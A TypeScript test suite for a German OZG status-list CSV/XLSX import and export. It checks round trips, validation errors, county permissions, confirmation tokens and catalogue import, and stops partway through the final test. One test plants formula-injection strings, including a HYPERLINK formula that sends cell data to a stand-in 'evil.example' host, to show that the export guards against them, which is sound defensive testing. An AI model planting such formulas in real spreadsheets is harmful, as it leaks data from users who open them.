import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { and, eq, isNotNull, sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { expect, it } from 'vitest'
import { auditLog, counties, importUploads, services, statusChanges, statuses, users, fachverfahren, onlineServices, vendors } from '../../db/schema'
import { seedDatabase } from '../../seeds/seed.server'
import { describeEachEngine } from '../support/database'
import type { SessionUser } from '~/domain/permissions'
import { formatStatusCsv, STATUS_CSV_COLUMNS, toCsvRecord, type StatusCsvRecord } from '~/domain/status-csv'
import { buildStatusXlsx, listStatusRows } from '~/models/export.server'
import { applyImport, MAX_STATUS_IMPORT_BYTES, MAX_STATUS_IMPORT_LABEL, packImportFile, previewImport, type ImportFile } from '~/models/import.server'
import { applyCatalogueImport, previewCatalogueImport } from '~/models/catalogue-import.server'
import { createSession } from '~/models/session.server'
import * as importRoute from '~/routes/import'
import { readCsv } from '~/utils/csv.server'
import { getDb } from '~/utils/db.server'

async function sessionUser(email: string): Promise<SessionUser> {
  const db = await getDb()
  const [u] = await db
    .select({ id: users.id, email: users.email, name: users.name, role: users.role, countyId: users.countyId, countyAgs: counties.ags })
    .from(users)
    .leftJoin(counties, eq(counties.id, users.countyId))
    .where(eq(users.email, email))
  return { ...u, role: u.role as SessionUser['role'] }
}

async function historyCount() {
  const db = await getDb()
  const [{ n }] = await db.select({ n: sql<number>`count(*)`.mapWith(Number) }).from(statusChanges)
  return n
}

async function statusSnapshot(ags: string) {
  const db = await getDb()
  return db
    .select({ id: statuses.id, version: statuses.version, approach: statuses.approach, stage: statuses.stage, note: statuses.note, costOneOff: statuses.costOneOff })
    .from(statuses)
    .innerJoin(counties, eq(counties.id, statuses.countyId))
    .where(eq(counties.ags, ags))
    .orderBy(statuses.id)
}

const csvFile = (name: string, text: string): ImportFile => ({ name, bytes: new TextEncoder().encode(text) })

async function countyCsv(ags: string) {
  const rows = await listStatusRows({ kreis: ags })
  return { rows, records: rows.map(toCsvRecord) }
}

function withRecords(records: StatusCsvRecord[]) {
  return formatStatusCsv(records)
}

describeEachEngine(
  'status list export and import',
  () => {
    it('exports the file format exactly: BOM, `;`, CRLF, header in order, decimal comma', async () => {
      const { rows } = await countyCsv('03351')
      expect(rows.length).toBe(557)
      const text = formatStatusCsv(rows.map(toCsvRecord))
      expect(text.startsWith('\uFEFFags;kreis;ozg_id;leistung;umsetzungsweg;')).toBe(true)
      expect(text.split('\r\n')[0]).toBe('\uFEFF' + STATUS_CSV_COLUMNS.join(';'))
      expect(text.split('\r\n')).toHaveLength(559) // header + rows + trailing empty
      const withCost = rows.find((r) => r.costOneOff !== null)
      if (withCost) expect(toCsvRecord(withCost).einmalkosten_eur).toMatch(/^\d+,\d{2}$/)
    })

    it('round trip: an exported county re-imports with no change', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const before = await statusSnapshot('03351')
      const history = await historyCount()
      const { records } = await countyCsv('03351')
      const file = csvFile('celle.csv', withRecords(records))
      const preview = await previewImport(file, editor)
      expect(preview.errors).toEqual([])
      expect(preview.refused).toBeNull()
      expect(preview.counts).toEqual({ new: 0, changed: 0, unchanged: 557 })
      // Nothing to apply: no confirmation is offered.
      expect(preview.token).toBeNull()
      expect(await statusSnapshot('03351')).toEqual(before)
      expect(await historyCount()).toBe(history)
    })

    it('round trip of the whole community as CSV and as XLSX changes nothing', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const rows = await listStatusRows({})
      expect(rows.length).toBe(16 * 557)
      const history = await historyCount()
      const csv = await previewImport(csvFile('alle.csv', formatStatusCsv(rows.map(toCsvRecord))), coordinator)
      expect(csv.errors).toEqual([])
      expect(csv.counts.unchanged).toBe(rows.length)
      const xlsx: ImportFile = { name: 'alle.xlsx', bytes: new Uint8Array(await buildStatusXlsx(rows)) }
      const fromXlsx = await previewImport(xlsx, coordinator)
      expect(fromXlsx.format).toBe('xlsx')
      expect(fromXlsx.errors).toEqual([])
      expect(fromXlsx.counts).toEqual({ new: 0, changed: 0, unchanged: rows.length })
      expect(await historyCount()).toBe(history)
    })

    it('applies a file written the way German Excel writes it, with history comment and source', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const { records } = await countyCsv('03351')
      const target = records.find((r) => r.umsetzungsweg === 'offen' && r.schnittstellenstatus === '')!
      const edited = records.map((r) =>
        r === target
          ? { ...r, umsetzungsweg: 'eigen', planung: '', fortschritt: 'in_umsetzung', zieltermin: '31.12.2027', einmalkosten_eur: '1.234,50', jahreskosten_eur: '99,9', notiz: 'Mit; Semikolon und "Anführung"\nzweite Zeile' }
          : r,
      )
      const preview = await previewImport(csvFile('Celle Excel.csv', withRecords(edited)), editor)
      expect(preview.errors).toEqual([])
      expect(preview.counts).toEqual({ new: 0, changed: 1, unchanged: 556 })
      expect(preview.rows[0]).toMatchObject({ ozgId: target.ozg_id, kind: 'changed' })
      const labels = preview.rows[0].changes.map((c) => c.label)
      expect(labels).toEqual(expect.arrayContaining(['Umsetzungsweg', 'Fortschritt', 'Zieltermin', 'Einmalkosten (EUR)', 'Notiz']))
      const before = await historyCount()
      const result = await applyImport(preview.token!, editor)
      expect(result).toMatchObject({ ok: true, changed: 1, created: 0 })
      expect(await historyCount()).toBe(before + 1)
      const db = await getDb()
      const [change] = await db.select().from(statusChanges).orderBy(sql`${statusChanges.id} desc`).limit(1)
      expect(change).toMatchObject({ comment: 'Import Celle Excel.csv', source: 'import', changedBy: editor.id })
      expect(change.changes).toMatchObject({ approach: { from: 'pending', to: 'own' }, targetDate: { to: '2027-12-31' }, costOneOff: { to: '1234.50' }, costAnnual: { to: '99.90' } })
      // And the export of the result re-imports unchanged again.
      const again = await previewImport(csvFile('again.csv', withRecords((await countyCsv('03351')).records)), editor)
      expect(again.counts.changed).toBe(0)
    })

    it('restores the leading zero Excel drops from the AGS', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 2).map((r) => ({ ...r, ags: '3351' }))
      const preview = await previewImport(csvFile('excel.csv', withRecords(records)), editor)
      expect(preview.errors).toEqual([])
      expect(preview.refused).toBeNull()
      expect(preview.counts.unchanged).toBe(2)
    })

    it('accepts `,` without BOM and LF line ends', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const { records } = await countyCsv('03351')
      const text = [STATUS_CSV_COLUMNS.join(','), ...records.slice(0, 3).map((r) => STATUS_CSV_COLUMNS.map((c) => (r[c].includes(',') || r[c].includes('"') ? `"${r[c].replace(/"/g, '""')}"` : r[c])).join(','))].join('\n')
      const preview = await previewImport(csvFile('komma.csv', text), editor)
      expect(preview.errors).toEqual([])
      expect(preview.counts.unchanged).toBe(3)
    })

    it('a file of 1,000 rows with one bad row changes nothing and names that line and column', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const rows = [...(await countyCsv('03351')).records, ...(await countyCsv('03353')).records].slice(0, 1000)
      expect(rows).toHaveLength(1000)
      const edited = rows.map((r, i) => (i === 700 ? { ...r, fortschritt: 'fast_fertig' } : { ...r, notiz: `Massenänderung ${i}` }))
      const before = await historyCount()
      const snapshot = await statusSnapshot('03353')
      const preview = await previewImport(csvFile('gross.csv', withRecords(edited)), coordinator)
      expect(preview.errorCount).toBe(1)
      expect(preview.errors[0]).toMatchObject({ line: 702, column: 'fortschritt' })
      expect(preview.errors[0].message).toMatch(/Wählen Sie einen Fortschritt: „geplant“/)
      // The other 999 rows are counted, but a file with errors cannot be confirmed.
      expect(preview.counts.changed).toBe(999)
      expect(preview.token).toBeNull()
      expect(await historyCount()).toBe(before)
      expect(await statusSnapshot('03353')).toEqual(snapshot)
    })

    it('refuses an editor’s file with a row of another county as a whole', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const own = (await countyCsv('03351')).records.slice(0, 5).map((r) => ({ ...r, notiz: 'geändert' }))
      const foreign = (await countyCsv('03353')).records[0]
      const before = await historyCount()
      const file = csvFile('gemischt.csv', withRecords([...own, { ...foreign, notiz: 'fremd' }]))
      const preview = await previewImport(file, editor)
      expect(preview.refused).toMatch(/Zeilen anderer Kreise \(Zeile 7\).*ganze Datei abgelehnt/)
      expect(preview.token).toBeNull()
      expect(await historyCount()).toBe(before)
    })

    it.each([
      ['unknown AGS', (r: StatusCsvRecord) => ({ ...r, ags: '09999' }), 'ags', /Einen Kreis mit dem AGS „09999“ gibt es in der Community nicht/],
      ['unknown OZG-ID', (r: StatusCsvRecord) => ({ ...r, ozg_id: '99999' }), 'ozg_id', /Eine Leistung mit der OZG-ID „99999“ gibt es im Katalog nicht/],
      ['unknown value', (r: StatusCsvRecord) => ({ ...r, finanzierung: 'spende' }), 'finanzierung', /Wählen Sie eine Finanzierung: „eigenmittel“/],
      ['bad date', (r: StatusCsvRecord) => ({ ...r, zieltermin: '31.02.2027' }), 'zieltermin', /Dieses Datum gibt es nicht/],
      ['bad date format', (r: StatusCsvRecord) => ({ ...r, zieltermin: 'Ende 2027' }), 'zieltermin', /Geben Sie ein Datum wie 01.03.2025 ein/],
      ['negative amount', (r: StatusCsvRecord) => ({ ...r, jahreskosten_eur: '-5,00' }), 'jahreskosten_eur', /darf nicht negativ sein/],
      ['unknown online service', (r: StatusCsvRecord) => ({ ...r, online_dienst: 'Gibt es nicht' }), 'online_dienst', /Den Online-Dienst „Gibt es nicht“ gibt es nicht/],
    ])('names the line and column of an error: %s', async (_kind, mutate, column, message) => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 4)
      records[2] = mutate(records[2])
      const preview = await previewImport(csvFile('fehler.csv', withRecords(records)), coordinator)
      expect(preview.errorCount).toBe(1)
      expect(preview.errors[0]).toMatchObject({ line: 4, column })
      expect(preview.errors[0].message).toMatch(message)
    })

    it('names the column umsetzungsweg for a row that is online while the Umsetzungsweg is offen', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 2)
      records[1] = { ...records[1], umsetzungsweg: 'offen', planung: '', fortschritt: 'online', online_dienst: '', anbindung: '' }
      const preview = await previewImport(csvFile('online-offen.csv', withRecords(records)), coordinator)
      expect(preview.errors).toEqual([{ line: 3, column: 'umsetzungsweg', message: '„Online“ oder „teilweise online“ geht nur mit dem Umsetzungsweg „eigen“ oder „efa“.' }])
    })

    it('reports all errors of a row in one pass: its key, its values and the rules between them', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 2)
      records[1] = { ...records[1], ags: '09999', umsetzungsweg: 'offen', planung: '', fortschritt: 'online', online_dienst: '', anbindung: 'produktiv', zieltermin: 'bald', ende_zu_ende: 'vielleicht' }
      const preview = await previewImport(csvFile('alles-falsch.csv', withRecords(records)), coordinator)
      expect(preview.errors.every((e) => e.line === 3)).toBe(true)
      expect(preview.errors.map((e) => e.column).sort()).toEqual(['ags', 'anbindung', 'ende_zu_ende', 'umsetzungsweg', 'zieltermin'])
    })

    it('reports a duplicate row with the line of the first', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 3)
      const preview = await previewImport(csvFile('doppelt.csv', withRecords([...records, records[1]])), coordinator)
      expect(preview.errors).toEqual([{ line: 5, column: 'ozg_id', message: expect.stringMatching(/steht schon in Zeile 3/) }])
    })

    it('reports a missing header column, a wrong encoding and a file that is too large', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const missing = await previewImport(csvFile('ohne.csv', 'ags;ozg_id;umsetzungsweg\r\n03351;10000;offen\r\n'), coordinator)
      expect(missing.errors[0].line).toBe(1)
      expect(missing.errors[0].message).toMatch(/In der Kopfzeile fehlen die Spalten „planung“, „online_dienst“/)

      const latin1 = new Uint8Array([...new TextEncoder().encode(STATUS_CSV_COLUMNS.join(';') + '\r\n03351;Celle;10000;Gr'), 0xfc, ...new TextEncoder().encode('n;offen\r\n')])
      const encoding = await previewImport({ name: 'ansi.csv', bytes: latin1 }, coordinator)
      expect(encoding.errors[0].message).toMatch(/nicht in UTF-8 gespeichert/)

      const large = await previewImport({ name: 'riesig.csv', bytes: new Uint8Array(MAX_STATUS_IMPORT_BYTES + 1) }, coordinator)
      expect(MAX_STATUS_IMPORT_LABEL).toBe('64 MB')
      expect(large.errors[0].message).toMatch(/Die Datei ist zu groß: höchstens 64 MB/)

      const bigWorkbook = new Uint8Array(10 * 1024 * 1024 + 1)
      bigWorkbook.set([0x50, 0x4b, 0x03, 0x04])
      const xlsxTooLarge = await previewImport({ name: 'riesig.xlsx', bytes: bigWorkbook }, coordinator)
      expect(xlsxTooLarge.errors[0].message).toMatch(/Excel-Arbeitsmappe ist zu groß: höchstens 10 MB.*CSV UTF-8.*64 MB/)

      const notXlsx = await previewImport({ name: 'kaputt.xlsx', bytes: new TextEncoder().encode('kein zip') }, coordinator)
      expect(notXlsx.errors[0].message).toMatch(/nicht als Excel-Arbeitsmappe/)
    })

    it('reads a hand-made XLSX with typed cells (numbers, dates) like its CSV', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const [row] = await listStatusRows({ kreis: '03351', umsetzungsweg: 'pending' })
      const workbook = new ExcelJS.Workbook()
      const sheet = workbook.addWorksheet('Tabelle1')
      sheet.addRow([...STATUS_CSV_COLUMNS])
      const record = { ...toCsvRecord(row), umsetzungsweg: 'eigen', planung: '', fortschritt: 'in_umsetzung' } as Record<string, string | number | Date>
      record.zieltermin = new Date(Date.UTC(2027, 5, 30))
      record.einmalkosten_eur = 2500.5
      record.antraege_pro_jahr = 120
      sheet.addRow(STATUS_CSV_COLUMNS.map((c) => (record[c] === '' ? null : record[c])))
      const bytes = new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer)
      const preview = await previewImport({ name: 'handarbeit.xlsx', bytes }, coordinator)
      expect(preview.errors).toEqual([])
      expect(preview.counts.changed).toBe(1)
      const changes = Object.fromEntries(preview.rows[0].changes.map((c) => [c.field, c.to]))
      expect(changes).toMatchObject({ targetDate: '30.06.2027', costOneOff: '2.500,50 EUR', applicationsPerYear: '120' })
    })

    it('confirms only with the token of the user who saw the preview, once, and not after it expired', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const other = await sessionUser('koordination@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 3)
      const file = () => csvFile('token.csv', withRecords(records.map((r, i) => ({ ...r, notiz: `Token-Test ${i}` }))))
      const preview = await previewImport(file(), editor)
      expect(preview.token).toMatch(/^[\w-]+\.[\w-]+$/)
      // The page carries a token, not the file.
      expect(preview.token!.length).toBeLessThan(100)
      const history = await historyCount()
      expect(await applyImport(preview.token!, other)).toMatchObject({ ok: false, reason: 'expired' })
      const [id, signature] = preview.token!.split('.')
      const forged = `${id}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`
      expect(await applyImport(forged, editor)).toMatchObject({ ok: false, reason: 'expired' })
      expect(await historyCount()).toBe(history)

      const db = await getDb()
      await db.update(importUploads).set({ expiresAt: sql`now() - interval '1 minute'` }).where(eq(importUploads.id, id))
      expect(await applyImport(preview.token!, editor)).toMatchObject({ ok: false, reason: 'expired', message: expect.stringMatching(/nicht mehr gültig/) })

      const again = await previewImport(file(), editor)
      // The next preview clears uploads nobody confirmed in time.
      expect(await db.select({ id: importUploads.id }).from(importUploads).where(eq(importUploads.id, id))).toEqual([])
      expect(await applyImport(again.token!, editor)).toMatchObject({ ok: true, changed: 3 })
      expect(await historyCount()).toBe(history + 3)
      // A second click on „Import übernehmen“ applies nothing twice.
      expect(await applyImport(again.token!, editor)).toMatchObject({ ok: false, reason: 'expired' })
      expect(await historyCount()).toBe(history + 3)
      const [audit] = await db.select().from(auditLog).where(eq(auditLog.action, 'import')).orderBy(sql`${auditLog.id} desc`).limit(1)
      expect(audit).toMatchObject({ userId: editor.id, entity: 'statuses', details: { fileName: 'token.csv', changed: 3, created: 0 } })
    })

    it('reads an upload packed while it streams in like the file itself, and refuses one over the limit', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const bytes = new TextEncoder().encode(withRecords([...(await countyCsv('03351')).records, ...(await countyCsv('03353')).records].map((r, i) => (i % 100 === 0 ? { ...r, kontakt: `Gepackt ${i}` } : r))))
      async function* pieces(size: number) {
        for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size)
      }
      const packed = await packImportFile('gepackt.csv', pieces(4093))
      if (packed === 'too-large') throw new Error('packed file too large')
      expect(packed.size).toBe(bytes.byteLength)
      expect(packed.gzip.byteLength).toBeLessThan(bytes.byteLength / 3)
      const fromPacked = await previewImport(packed, coordinator)
      const fromBytes = await previewImport(csvFile('gepackt.csv', new TextDecoder().decode(bytes)), coordinator)
      expect(fromPacked.errors).toEqual([])
      expect(fromPacked.counts).toEqual({ new: 0, changed: 12, unchanged: 2 * 557 - 12 })
      expect({ ...fromPacked, token: null }).toEqual({ ...fromBytes, token: null })

      async function* huge() {
        const mb = new Uint8Array(1024 * 1024)
        for (let i = 0; i <= MAX_STATUS_IMPORT_BYTES / mb.length; i++) yield mb
      }
      expect(await packImportFile('riesig.csv', huge())).toBe('too-large')
    })

    it('the /import page streams the upload in, previews it and applies it with the token alone', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const other = await sessionUser('harburg@demo.invalid')
      const origin = 'http://localhost'
      const headers = async (userId: number) => new Headers({ Cookie: `ozg_session=${(await createSession(userId)).token}`, Origin: origin })
      const records = (await countyCsv('03351')).records.slice(20, 24).map((r, i) => (i < 2 ? { ...r, kontakt: `Seite ${i}` } : r))
      const form = new FormData()
      form.set('intent', 'preview')
      form.set('datei', new File([withRecords(records)], 'Seite.csv', { type: 'text/csv' }))
      const uploaded = (await importRoute.action({ request: new Request(`${origin}/import`, { method: 'POST', headers: await headers(editor.id), body: form }), params: {}, context: {} })) as {
        data: { preview: { counts: unknown; token: string | null } }
        init: ResponseInit | null
      }
      expect(uploaded.init?.status).toBe(200)
      expect(uploaded.data.preview.counts).toEqual({ new: 0, changed: 2, unchanged: 2 })
      const token = uploaded.data.preview.token!
      const confirm = async (userId: number) =>
        (await importRoute.action({
          request: new Request(`${origin}/import`, { method: 'POST', headers: await headers(userId), body: new URLSearchParams({ intent: 'confirm', token }) }),
          params: {},
          context: {},
        })) as { data: { applied: unknown; errors: Record<string, string> }; init: ResponseInit | null }
      // Another user cannot confirm this upload, even with its token.
      const foreign = await confirm(other.id)
      expect(foreign.init?.status).toBe(409)
      expect(foreign.data.errors.datei).toMatch(/nicht mehr gültig/)
      const applied = await confirm(editor.id)
      expect(applied.data.applied).toEqual({ changed: 2, created: 0 })

      const empty = new FormData()
      empty.set('intent', 'preview')
      empty.set('datei', new File([], '', { type: 'application/octet-stream' }))
      const none = (await importRoute.action({ request: new Request(`${origin}/import`, { method: 'POST', headers: await headers(editor.id), body: empty }), params: {}, context: {} })) as {
        data: { errors: Record<string, string> }
      }
      expect(none.data.errors.datei).toBe('Wählen Sie eine CSV- oder XLSX-Datei aus.')

      const emptyFile = new FormData()
      emptyFile.set('intent', 'preview')
      emptyFile.set('datei', new File([], 'leer.csv', { type: 'text/csv' }))
      const blank = (await importRoute.action({ request: new Request(`${origin}/import`, { method: 'POST', headers: await headers(editor.id), body: emptyFile }), params: {}, context: {} })) as {
        data: { errors: Record<string, string> }
        init: ResponseInit | null
      }
      expect(blank.init?.status).toBe(400)
      expect(blank.data.errors.datei).toMatch(/^Die Datei ist leer\./)
    })

    it('a row someone else changed after the preview, that the file leaves as it was, keeps their change', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(10, 13)
      const preview = await previewImport(csvFile('nebenbei.csv', withRecords([{ ...records[0], kontakt: 'Fachdienst Import' }, records[1], records[2]])), editor)
      expect(preview.counts).toEqual({ new: 0, changed: 1, unchanged: 2 })
      const db = await getDb()
      const [{ id }] = await db
        .select({ id: statuses.id })
        .from(statuses)
        .innerJoin(counties, eq(counties.id, statuses.countyId))
        .innerJoin(services, eq(services.id, statuses.serviceId))
        .where(sql`${counties.ags} = '03351' and ${services.ozgId} = ${records[1].ozg_id}`)
      await db.update(statuses).set({ note: 'Kollegin', version: sql`${statuses.version} + 1` }).where(eq(statuses.id, id))
      expect(await applyImport(preview.token!, editor)).toMatchObject({ ok: true, changed: 1 })
      const [row] = await db.select({ note: statuses.note }).from(statuses).where(eq(statuses.id, id))
      expect(row.note).toBe('Kollegin')
    })

    it('creates the row of a county × service that has none yet', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const db = await getDb()
      const [{ id: countyId, ags }] = await db
        .select({ id: counties.id, ags: counties.ags })
        .from(counties)
        .where(eq(counties.isMember, true))
        .orderBy(sql`${counties.ags} desc`)
        .limit(1)
      const [record] = (await countyCsv(ags)).records.slice(-1)
      const [{ serviceId }] = await db.select({ serviceId: services.id }).from(services).where(eq(services.ozgId, record.ozg_id))
      await db.delete(statusChanges).where(and(eq(statusChanges.countyId, countyId), eq(statusChanges.serviceId, serviceId)))
      await db.delete(statuses).where(and(eq(statuses.countyId, countyId), eq(statuses.serviceId, serviceId)))
      const edited = { ...record, umsetzungsweg: 'eigen', planung: '', fortschritt: 'in_umsetzung', online_dienst: '', anbindung: '', notiz: 'Neu per Import' }
      const preview = await previewImport(csvFile('neu.csv', withRecords([edited])), coordinator)
      expect(preview.errors).toEqual([])
      expect(preview.counts).toEqual({ new: 1, changed: 0, unchanged: 0 })
      expect(preview.rows[0]).toMatchObject({ kind: 'new', ozgId: record.ozg_id })
      expect(await applyImport(preview.token!, coordinator)).toMatchObject({ ok: true, created: 1, changed: 0 })
      const [row] = await db
        .select({ approach: statuses.approach, stage: statuses.stage, note: statuses.note })
        .from(statuses)
        .where(and(eq(statuses.countyId, countyId), eq(statuses.serviceId, serviceId)))
      expect(row).toEqual({ approach: 'own', stage: 'in_progress', note: 'Neu per Import' })
    })

    it('does not apply when the data changed after the preview', async () => {
      const editor = await sessionUser('celle@demo.invalid')
      const records = (await countyCsv('03351')).records.slice(0, 2).map((r) => ({ ...r, kontakt: 'Fachdienst 1' }))
      const file = csvFile('veraltet.csv', withRecords(records))
      const preview = await previewImport(file, editor)
      const db = await getDb()
      const [{ id }] = await db
        .select({ id: statuses.id })
        .from(statuses)
        .innerJoin(counties, eq(counties.id, statuses.countyId))
        .innerJoin(services, eq(services.id, statuses.serviceId))
        .where(sql`${counties.ags} = '03351' and ${services.ozgId} = ${records[0].ozg_id}`)
      await db.update(statuses).set({ version: sql`${statuses.version} + 1` }).where(eq(statuses.id, id))
      const history = await historyCount()
      const result = await applyImport(preview.token!, editor)
      expect(result).toMatchObject({ ok: false, reason: 'stale' })
      expect(await historyCount()).toBe(history)
      // The new preview comes with its own token, and that one applies.
      expect(result.preview?.token).toBeTruthy()
      expect(result.preview?.token).not.toBe(preview.token)
      expect(await applyImport(result.preview!.token!, editor)).toMatchObject({ ok: true, changed: 2 })
    })

    it('guards formula-like text in every free-text column; the export re-imports unchanged, an edit keeps the text exactly', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const db = await getDb()
      // A Celle row with an online service and a Fachverfahren: every text column has a value.
      const [target] = await db
        .select({ id: statuses.id, countyId: statuses.countyId, serviceId: statuses.serviceId, onlineServiceId: statuses.onlineServiceId, fachverfahrenId: statuses.fachverfahrenId, ozgId: services.ozgId })
        .from(statuses)
        .innerJoin(counties, eq(counties.id, statuses.countyId))
        .innerJoin(services, eq(services.id, statuses.serviceId))
        .where(and(eq(counties.ags, '03351'), isNotNull(statuses.onlineServiceId), isNotNull(statuses.fachverfahrenId)))
        .orderBy(services.ozgId)
        .limit(1)
      expect(target).toBeDefined()
      const [fv] = await db.select({ vendorId: fachverfahren.vendorId, name: fachverfahren.name }).from(fachverfahren).where(eq(fachverfahren.id, target.fachverfahrenId!))
      const [os] = await db.select({ name: onlineServices.name }).from(onlineServices).where(eq(onlineServices.id, target.onlineServiceId!))
      const [vendor] = await db.select({ name: vendors.name }).from(vendors).where(eq(vendors.id, fv.vendorId))
      const [service] = await db.select({ name: services.name }).from(services).where(eq(services.id, target.serviceId))
      const [county] = await db.select({ name: counties.name }).from(counties).where(eq(counties.id, target.countyId))
      const formulas = {
        onlineService: '=HYPERLINK("https://evil.example/?x="&A1;"Dienst")',
        fachverfahren: '+Fachverfahren',
        vendor: '@Hersteller',
        service: '=Leistung',
        county: '-Celle',
      }
      await db.update(onlineServices).set({ name: formulas.onlineService }).where(eq(onlineServices.id, target.onlineServiceId!))
      await db.update(fachverfahren).set({ name: formulas.fachverfahren }).where(eq(fachverfahren.id, target.fachverfahrenId!))
      await db.update(vendors).set({ name: formulas.vendor }).where(eq(vendors.id, fv.vendorId))
      await db.update(services).set({ name: formulas.service }).where(eq(services.id, target.serviceId))
      await db.update(counties).set({ name: formulas.county }).where(eq(counties.id, target.countyId))
      const texts = { note: '=1+2', contact: '-Fachdienst Bauordnung', fundingNote: '@SUMME(A1:A9)', interfaceStandard: "'=schon mit Apostroph" }
      await db.update(statuses).set(texts).where(eq(statuses.id, target.id))
      try {
        const rows = await listStatusRows({ kreis: '03351' })
        const text = formatStatusCsv(rows.map(toCsvRecord))
        // No cell of the file starts the way a spreadsheet would evaluate.
        const table = readCsv(text)
        const evaluated = table.rows.flatMap((r) => Object.entries(r.values).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell)).map(([column, cell]) => `${r.line} ${column}: ${cell}`))
        expect(evaluated).toEqual([])
        const cells = table.rows.find((r) => r.values.ozg_id === target.ozgId)!.values
        expect(cells).toMatchObject({
          kreis: "'-Celle",
          leistung: "'=Leistung",
          online_dienst: `'${formulas.onlineService}`,
          fachverfahren: "'+Fachverfahren",
          hersteller: "'@Hersteller",
          schnittstellenstandard: "''=schon mit Apostroph",
          finanzierungsnotiz: "'@SUMME(A1:A9)",
          kontakt: "'-Fachdienst Bauordnung",
          notiz: "'=1+2",
        })

        // Export → import changes nothing, as CSV and as XLSX.
        const history = await historyCount()
        const again = await previewImport(csvFile('formeln.csv', text), coordinator)
        expect(again.errors).toEqual([])
        expect(again.counts).toEqual({ new: 0, changed: 0, unchanged: 557 })
        const workbookBytes = new Uint8Array(await buildStatusXlsx(rows))
        const fromXlsx = await previewImport({ name: 'formeln.xlsx', bytes: workbookBytes }, coordinator)
        expect(fromXlsx.errors).toEqual([])
        expect(fromXlsx.counts).toEqual({ new: 0, changed: 0, unchanged: 557 })
        expect(await historyCount()).toBe(history)

        // The workbook holds text cells with the text as it is: no formula, no apostrophe.
        const workbook = new ExcelJS.Workbook()
        await workbook.xlsx.load(workbookBytes as never)
        const sheet = workbook.worksheets[0]
        const header = (sheet.getRow(1).values as string[]).slice(1)
        let formulaCells = 0
        sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulaCells++)))
        expect(formulaCells).toBe(0)
        let found = 0
        sheet.eachRow((row) => {
          if (row.getCell(header.indexOf('ozg_id') + 1).value !== target.ozgId) return
          found++
          const cell = (column: string) => row.getCell(header.indexOf(column) + 1)
          expect(cell('notiz').type).toBe(ExcelJS.ValueType.String)
          expect(cell('notiz').value).toBe('=1+2')
          expect(cell('online_dienst').value).toBe(formulas.onlineService)
          expect(cell('schnittstellenstandard').value).toBe("'=schon mit Apostroph")
        })
        expect(found).toBe(1)

        // An edit in the file: the import takes off exactly the one guarding apostrophe.
        const records = rows.map(toCsvRecord).map((r) => (r.ozg_id === target.ozgId ? { ...r, notiz: '=SUMME(B2)', kontakt: "'@zitiert", finanzierungsnotiz: '+49 5141 0' } : r))
        const edited = await previewImport(csvFile('formeln-bearbeitet.csv', withRecords(records)), coordinator)
        expect(edited.errors).toEqual([])
        expect(edited.counts).toEqual({ new: 0, changed: 1, unchanged: 556 })
        expect(await applyImport(edited.token!, coordinator)).toMatchObject({ ok: true, changed: 1 })
        const [stored] = await db.select({ note: statuses.note, contact: statuses.contact, fundingNote: statuses.fundingNote, interfaceStandard: statuses.interfaceStandard }).from(statuses).where(eq(statuses.id, target.id))
        expect(stored).toEqual({ note: '=SUMME(B2)', contact: "'@zitiert", fundingNote: '+49 5141 0', interfaceStandard: "'=schon mit Apostroph" })
      } finally {
        await db.update(onlineServices).set({ name: os.name }).where(eq(onlineServices.id, target.onlineServiceId!))
        await db.update(fachverfahren).set({ name: fv.name }).where(eq(fachverfahren.id, target.fachverfahrenId!))
        await db.update(vendors).set({ name: vendor.name }).where(eq(vendors.id, fv.vendorId))
        await db.update(services).set({ name: service.name }).where(eq(services.id, target.serviceId))
        await db.update(counties).set({ name: county.name }).where(eq(counties.id, target.countyId))
      }
    })

    // Last in this suite: it changes the catalogue the other tests read.
    it('catalogue import: adds with pending rows for every county, renames, retires without deleting history', async () => {
      const coordinator = await sessionUser('koordination@demo.invalid')
      const reference = readFileSync(resolve(process.cwd(), 'seeds/reference/ozg_leistungen.csv'), 'utf8')
      const lines = reference.trim().split(/\r?\n/)
      const header = lines[0]
      const body = lines.slice(1)
      const retiredLine = body.find((l) => l.startsWith('10000,'))!
      const renamed = body.map((l) => (l.startsWith('10001,') ? l.replace(/^10001,[^,]*,/, '10001,Vaterschaftsanerkennung (neu),') : l)).filter((l) => l !== retiredLine)
      const text = [header, ...renamed, '99901,Neue Testleistung,Geburt,Familie & Kind,0'].join('\r\n')
      const file = csvFile('katalog.csv', text)

      const db = await getDb()
      const [{ historyOf10000 }] = await db
        .select({ historyOf10000: sql<number>`count(*)`.mapWith(Number) })
        .from(statusChanges)
        .innerJoin(services, eq(services.id, statusChanges.serviceId))
        .where(eq(services.ozgId, '10000'))

      const preview = await previewCatalogueImport(file)
      expect(preview.errors).toEqual([])
      expect(preview.counts).toMatchObject({ added: 1, renamed: 1, retired: 1, moved: 0, reactivated: 0 })
